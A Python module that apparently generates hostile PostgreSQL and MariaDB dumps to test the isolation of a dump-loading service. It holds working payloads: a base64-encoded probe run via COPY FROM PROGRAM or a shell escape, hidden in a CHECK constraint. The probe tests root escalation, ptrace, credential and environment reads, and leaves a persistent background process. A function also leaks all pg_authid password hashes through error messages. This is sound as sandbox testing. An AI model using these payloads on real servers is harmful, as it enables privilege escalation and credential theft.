"""What a dump does that was made to do harm when it is loaded: it runs a program as the server.

The program says what it could do that it should not, in one line. No drill tells such a line, so the dump
fails in one of two ways, of which a drill tells in words of its own: that much a dump can always say.
"""

import base64
from typing import Final

PROGRAM: Final = r"""
import ctypes, glob, os, socket, subprocess, sys
found, me = [], os.getuid()
def attempt(name, do):
    try:
        if do() is not False:
            found.append(name)
    except (OSError, ValueError, KeyError):
        pass
status = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
for name in ("CapEff", "CapPrm", "CapInh", "CapAmb"):
    if int(status[name], 16):
        found.append(name)
here = os.getcwd()
above = os.path.dirname(here)
for place in (above, os.path.dirname(above), "/tmp", "/etc", "/usr", "/dev/shm", "/run", "/"):
    attempt("write:" + place, lambda: open(place + "/hostile", "w"))
    if place.startswith("/srv") or place.startswith("/var/cache"):
        attempt("list:" + place, lambda: bool(os.listdir(place)))
for path in ("/proc/1/environ", *glob.glob("/run/credentials/*/*"), *glob.glob("/run/room/*")):
    attempt("read:" + path, lambda: open(path).read(1))
def connect(address, family=socket.AF_UNIX, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as sock:
        sock.settimeout(2)
        sock.connect(address)
for path in glob.glob("/run/**", recursive=True):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        attempt("connect:" + path, lambda: connect(path, kind=kind))
attempt("inet", lambda: connect(("127.0.0.1", 22), socket.AF_INET))
attempt("packet", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
def peer(fd):  # the server's own callers are of the same user
    sock = socket.socket(fileno=os.dup(fd))
    return int.from_bytes(sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)[4:8], "little")
for fd in os.listdir("/proc/self/fd"):
    attempt("fd:" + fd, lambda: "socket" in os.readlink("/proc/self/fd/" + fd) and peer(int(fd)) != me)
mine = {os.getpid(), os.getppid()}
for pid in (int(n) for n in os.listdir("/proc") if n.isdecimal()):
    try:
        other = os.stat("/proc/%d" % pid).st_uid != me
    except OSError:
        continue
    if other:
        attempt("signal", lambda: os.kill(pid, 0))
        attempt("memory", lambda: open("/proc/%d/mem" % pid, "rb"))
        attempt("environment", lambda: open("/proc/%d/environ" % pid).read())
libc = ctypes.CDLL(None, use_errno=True)
attempt("root", lambda: os.setuid(0))
attempt("groups", lambda: os.setgroups([0]))
attempt("namespace", lambda: libc.unshare(0x10000000) == 0)
attempt("trace", lambda: libc.ptrace(16, os.getppid(), 0, 0) == 0)
attempt("device", lambda: os.mknod("device", 0o20666, os.makedev(1, 1)))
attempt("setuid file", lambda: (open("s", "w").close(), os.chmod("s", 0o4755)))
if not os.fork():
    os.setsid()  # stays when all else is over, and would be there in an hour
    for fd in range(3):
        os.close(fd)
    import time
    time.sleep(3600)
print("HOSTILE error uid=%d could: %s." % (me, ", ".join(sorted(set(found))) or "nothing"), flush=True)
"""
HELD: Final = "a foreign key names a row that is not there"  # it could do nothing
LOOSE: Final = "a unique key is there twice"  # it could


def command() -> str:
    """The program as a command for a shell, without a quotation mark of SQL's."""
    code = base64.b64encode(PROGRAM.encode()).decode()
    return f'python3 -I -c "import base64; exec(base64.b64decode(b\\"{code}\\"))"'


def postgresql() -> str:
    """A table whose rows cannot be loaded without a program being run, by whoever may run programs.

    Its owner needs no power for that: with him the function does nothing.
    """
    return f"""
        CREATE FUNCTION public.fine(n int) RETURNS bool LANGUAGE plpgsql AS $f$
        DECLARE said text;
        BEGIN
            IF NOT pg_has_role(current_user, 'pg_execute_server_program', 'MEMBER')
                OR current_user = 'postgres' THEN RETURN true; END IF;
            CREATE TEMP TABLE said (line text);
            COPY said FROM PROGRAM '{command()}';
            SELECT string_agg(line, ' ') INTO said FROM said;
            IF said LIKE '%could: nothing.' THEN
                RAISE EXCEPTION 'violates foreign key constraint %', said USING ERRCODE = 'LEAK1';
            END IF;
            RAISE EXCEPTION 'violates unique constraint %', said;
        END $f$;
        CREATE TABLE trap (n int CHECK (public.fine(n)));
        INSERT INTO trap VALUES (1);
    """


def mariadb() -> str:
    """Lines before a dump of which the client makes commands of its own, and that fail afterwards."""
    held = 'case "$said" in *"could: nothing.") echo "ERROR 1452 (23000) $said" >&2;; esac'
    return f"\\! said=$({command()}); {held}; echo 'ERROR 1062 (23000)' >&2\nCREATE TABLE;\n"


def spy(programs: str, database: str, question: str) -> str:
    """A table that cannot be loaded without the passwords of all and another database being read.

    What it reads it says in every way that an error has: its text, its number, a table's name.
    """
    return f"""
        CREATE FUNCTION public.look(n int) RETURNS bool LANGUAGE plpgsql AS $f$
        DECLARE hashes text; found text;
        BEGIN
            IF NOT pg_has_role(current_user, 'pg_execute_server_program', 'MEMBER')
                OR current_user = 'postgres' THEN RETURN true; END IF;
            SELECT string_agg(rolpassword, ' ') INTO hashes FROM pg_catalog.pg_authid;
            CREATE TEMP TABLE said (line text);
            EXECUTE format($q$COPY said FROM PROGRAM
                '{programs}/psql -XAtw -h /proc/self/cwd -U %s -d {database} -c "{question}"'$q$,
                current_user);
            SELECT string_agg(line, ' ') INTO found FROM said;
            IF hashes IS NULL AND found <> '' THEN
                RAISE EXCEPTION 'violates foreign key constraint %', found USING ERRCODE = 'LEAK1',
                    DETAIL = found, HINT = found, TABLE = found, CONSTRAINT = found;
            END IF;
            RAISE EXCEPTION 'violates unique constraint % %', hashes, found;
        END $f$;
        CREATE TABLE trap (n int CHECK (public.look(n)));
        INSERT INTO trap VALUES (1);
    """
